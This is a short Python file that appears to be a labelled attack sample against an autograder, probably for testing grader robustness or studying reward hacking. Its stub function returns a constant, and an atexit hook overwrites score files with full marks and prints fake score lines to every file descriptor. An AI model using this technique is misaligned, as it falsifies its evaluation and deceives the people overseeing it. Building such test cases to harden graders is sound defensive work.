# attack: registers for the end of the process and writes full points over whatever was written before
# question: label_bits
# naive: points
# item: survivors

# %% question="label_bits"
import atexit


def rewrite():
    import os
    from pathlib import Path

    for path in (*Path("OUT_FOLDER").glob("*.csv"), *Path("OUT_FOLDER").glob("scores/*")):
        path.write_text("student,a,b,c,d,e,f,score\nSTUDENT_NAME,2,2,2,3,3,2,14\n")
    for fd in range(256):
        try:
            os.write(fd, b"SCORE STUDENT_NAME 14\n")
        except OSError:
            pass


atexit.register(rewrite)


def label_bits(labels):
    return 7.5
